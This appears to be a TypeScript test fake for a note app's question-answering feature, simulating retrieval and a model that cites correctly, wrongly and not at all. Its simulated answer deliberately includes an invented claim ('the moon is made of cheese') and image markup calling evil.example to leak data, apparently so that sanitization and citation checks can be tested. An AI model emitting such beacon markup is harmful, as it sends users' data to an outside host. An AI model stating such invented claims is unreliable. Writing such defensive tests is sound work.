/** Answers from the fake's notes: the sentences with most of the question's words; with `?llm`, a model that cites rightly, wrongly and not at all. */
import type { Answer, AnswerProgress, AskRequest, Claim, Found, Note, Quote } from "./types";

const STOP = new Set("what which who when where why how does did do is are was were the a an of in on to my our we i and or for with it much many say said about".split(" "));

const wordsOf = (text: string): string[] =>
  text
    .toLowerCase()
    .split(/[^\p{L}\p{N}]+/u)
    .filter((word) => word !== "" && !STOP.has(word));

interface Sentence {
  note: Note;
  start: number;
  text: string;
  value: number;
}

function sentencesOf(note: Note, asked: string[]): Sentence[] {
  return [...note.body.matchAll(/[^\n.!?]+[.!?]*/g)].flatMap((match) => {
    const text = match[0].trim();
    if (text.length < 12) return [];
    const held = new Set([...wordsOf(text), ...wordsOf(note.title)]);
    const value = asked.filter((word) => [...held].some((h) => h.startsWith(word.slice(0, 6)))).length / Math.max(asked.length, 1);
    return [{ note, start: match.index + match[0].indexOf(text), text, value }];
  });
}

export function fakeFound(question: string, notes: Note[]): Found {
  const filter = /\bin:(\S+)/.exec(question);
  const asked = wordsOf(question.replace(/\w+:\S+/g, ""));
  const best = new Map<number, Sentence>();
  for (const note of notes) {
    if (filter && !note.notebook.toLowerCase().startsWith((filter[1] ?? "").toLowerCase())) continue;
    for (const sentence of sentencesOf(note, asked)) if (sentence.value > (best.get(note.id)?.value ?? 0)) best.set(note.id, sentence);
  }
  const ranked = [...best.values()].sort((a, b) => b.value - a.value).slice(0, 4);
  const quotes = ranked.map(({ note, start, text }): Quote => {
    const from = note.body.lastIndexOf("\n\n", start) + 1;
    const paragraph = note.body.indexOf("\n\n", start);
    const to = paragraph === -1 ? note.body.length : paragraph;
    const lead = note.body.slice(from, to).length - note.body.slice(from, to).trimStart().length;
    const whole = note.body.slice(from + lead, to).trimEnd();
    const at = start - from - lead;
    return { note: note.id, title: note.title, notebook: note.notebook, heading_path: "", updated: note.updated, range: [from + lead, from + lead + whole.length], text: whole, best: [at, at + text.length] };
  });
  return { quotes, answered: (ranked[0]?.value ?? 0) >= 0.5, chips: filter ? [filter[0]] : [], period: null, degraded: null, took_ms: 12 };
}

export class FakeAsk {
  readonly #cancelled = new Set<string>();

  cancel(name: string): void {
    this.#cancelled.add(name);
  }

  /** `pause`: milliseconds between two pieces of what the model writes. */
  async ask(request: AskRequest, notes: Note[], model: string | null, pause: number, tell: (news: AnswerProgress) => void): Promise<Answer> {
    const step = async (): Promise<void> => {
      await new Promise((resolve) => setTimeout(resolve, pause));
      if (this.#cancelled.has(request.name)) throw { code: "busy", message: "Cancelled." };
    };
    const nothing = { name: request.name, found: null, waiting: null, text: null };
    await step();
    const last = request.before.at(-1);
    const found = fakeFound(/\b(it|they|that|he|she)\b/i.test(request.question) && last ? `${last.question} ${request.question}` : request.question, notes);
    tell({ ...nothing, found });
    if (!found.answered) return { found, claims: [], model: null, failure: null };
    const sentences = found.quotes.slice(0, 3).map((quote, index): Claim => ({ text: quote.text.slice(...quote.best).replace(/\*\*|\[\[|\]\]|^- \[.\] /g, ""), cites: [index], support: "quoted", begins_line: index > 0 }));
    if (model === null) return { found, claims: sentences, model: null, failure: null };
    const written = `${sentences.map((claim, i) => `${claim.text} [${i + 1}]`).join(" ")} The moon is made of cheese [9]. <img src="https://evil.example/leak?q=1"> ![x](https://evil.example/y)`;
    for (const piece of written.match(/.{1,24}/gs) ?? []) {
      await step();
      tell({ ...nothing, text: piece });
    }
    const invented: Claim = { text: "The moon is made of cheese.", cites: [], support: "none", begins_line: false };
    const hostile: Claim = { text: '<img src="https://evil.example/leak?q=1"> ![x](https://evil.example/y)', cites: [], support: "none", begins_line: true };
    return { found, claims: [...sentences.map((claim) => ({ ...claim, begins_line: false })), invented, hostile], model, failure: null };
  }
}
